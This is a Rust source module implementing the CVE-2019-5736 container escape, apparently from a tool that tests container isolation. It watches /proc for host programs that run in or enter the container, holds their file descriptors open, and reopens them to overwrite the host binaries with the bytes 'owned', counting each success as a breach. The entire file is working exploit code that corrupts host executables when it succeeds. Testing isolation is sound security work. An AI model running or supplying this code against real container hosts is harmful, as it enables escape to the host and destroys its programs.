//! Overwriting the programs of the host that run in, or enter, the container (CVE-2019-5736).

use std::fs::{self, File};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

use crate::Attempts;

/// Opens, until the file `stop` is there, the program of every process, keeps it open past the end of the process, and
/// tries to write: while it runs the kernel answers ETXTBSY, afterwards only its owner's rights protect it.
pub(crate) fn attack(stop: &str) -> io::Result<Attempts> {
    let mut held: Vec<(String, File)> = Vec::new();
    let mut found = Attempts::default();
    while !Path::new(stop).exists() {
        for entry in fs::read_dir("/proc")?.flatten() {
            let link = entry.path().join("exe");
            let (Ok(file), Ok(name)) = (File::open(&link), fs::read_link(&link)) else { continue };
            let known = held.iter().any(|(_, have)| inode(have) == inode(&file));
            // What the container itself has is its own to write.
            let is_own = File::open(&name).is_ok_and(|own| inode(&own) == inode(&file));
            if !known && !is_own {
                held.push((name.display().to_string(), file));
            }
        }
        for (name, file) in &held {
            let again = File::options().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
            found.tried += 1;
            if again.and_then(|mut file| file.write_all(b"owned")).is_ok() {
                found.breaches.push(name.clone());
            }
        }
        found.breaches.sort();
        found.breaches.dedup();
    }
    found.tried += held.len();
    Ok(found)
}

fn inode(file: &File) -> Option<(u64, u64)> {
    file.metadata().map(|found| (found.dev(), found.ino())).ok()
}
